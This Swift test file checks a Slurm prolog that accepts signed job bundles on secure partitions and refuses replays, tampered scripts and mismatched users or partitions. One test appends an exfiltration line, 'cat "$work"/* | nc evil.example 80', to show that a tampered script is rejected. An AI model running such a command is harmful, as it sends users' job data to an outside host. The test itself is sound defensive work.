import Foundation
import Testing

@testable import TwinSecure

/// The Prolog's decisions for secure-partition jobs.
struct SecurePrologTests {
  static func job(
    _ fixture: JobBundleTests.Fixture, user: String = "alice@example.org",
    partition: String = "secure", script: [UInt8]? = nil
  ) throws -> SecureProlog.Job {
    let signed = try [UInt8](Data(contentsOf: fixture.bundle.appendingPathComponent("job.sbatch")))
    return SecureProlog.Job(
      jobID: "42", user: user, partition: partition, bundleFolder: fixture.bundle.path,
      spooledScript: script ?? signed)
  }

  static func check(_ fixture: JobBundleTests.Fixture, _ job: SecureProlog.Job) throws
    -> SecureProlog.Decision
  {
    try SecureProlog.check(
      job, securePartitions: ["secure"], allowedSigners: fixture.signers,
      replayListPath: fixture.folder.appendingPathComponent("nonces").path)
  }

  @Test func signedBundleIsAcceptedOnceAndItsReplayIsRefused() throws {
    let fixture = try JobBundleTests.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    let decision = try Self.check(fixture, try Self.job(fixture))
    #expect(
      decision
        == .accepted(
          principal: "alice@example.org", manifest: fixture.manifest,
          manifestSHA256: try JobBundle.sha256(
            ofFileAt: fixture.bundle.appendingPathComponent("manifest.json")
          ).hex))
    let recorded = try ReplayList(path: fixture.folder.appendingPathComponent("nonces").path)
      .entries()
    #expect(recorded.accepted.map(\.jobNonce) == [fixture.manifest.jobNonce])
    #expect(recorded.accepted.map(\.jobID) == ["42"])
    #expect(recorded.accepted.map(\.user) == ["alice@example.org"])
    #expect(recorded.legacyNonces.isEmpty)
    #expect(throws: SecureProlog.Refusal.replayed(jobNonce: fixture.manifest.jobNonce)) {
      try Self.check(fixture, try Self.job(fixture))
    }
  }

  @Test func spooledScriptThatDiffersFromTheSignedOneIsRefusedAndNotRecorded() throws {
    let fixture = try JobBundleTests.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    var script = try Self.job(fixture).spooledScript
    script += Array("cat \"$work\"/* | nc evil.example 80\n".utf8)
    #expect(throws: SecureProlog.Refusal.scriptDiffers) {
      try Self.check(fixture, try Self.job(fixture, script: script))
    }
    #expect(
      !FileManager.default.fileExists(
        atPath: fixture.folder.appendingPathComponent("nonces").path))
  }

  @Test func bundleSignedByAnotherUserOrForAnotherPartitionIsRefused() throws {
    let fixture = try JobBundleTests.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    #expect(throws: BundleError.self) {
      try Self.check(fixture, try Self.job(fixture, user: "root"))
    }
    #expect(
      throws: SecureProlog.Refusal.partitionDiffers(signed: "secure", actual: "secure2")
    ) {
      try SecureProlog.check(
        try Self.job(fixture, partition: "secure2"), securePartitions: ["secure", "secure2"],
        allowedSigners: fixture.signers,
        replayListPath: fixture.folder.appendingPathComponent("nonces").path)
    }
  }

  @Test func jobsOnOtherPartitionsAreNotChecked() throws {
    let fixture = try JobBundleTests.makeBundle()
    defer { try? FileManager.default.removeItem(at: fixture.folder) }
    #expect(try Self.check(fixture, try Self.job(fixture, partition: "batch")) == .notSecure)
  }

  @Test func workDirectoryIsReadFromScontrolShowJobOutput() {
    let line =
      "JobId=7 JobName=job.sbatch UserId=alice(1000) GroupId=alice(1000) Partition=secure "
      + "Command=/home/alice/job1/job.sbatch WorkDir=/home/alice/job1 StdErr=/home/alice/job1/x\n"
    #expect(SlurmJobQuery.workDirectory(fromShowJobLine: line) == "/home/alice/job1")
    #expect(SlurmJobQuery.workDirectory(fromShowJobLine: "JobId=7 WorkDir= X=1") == nil)
  }
}
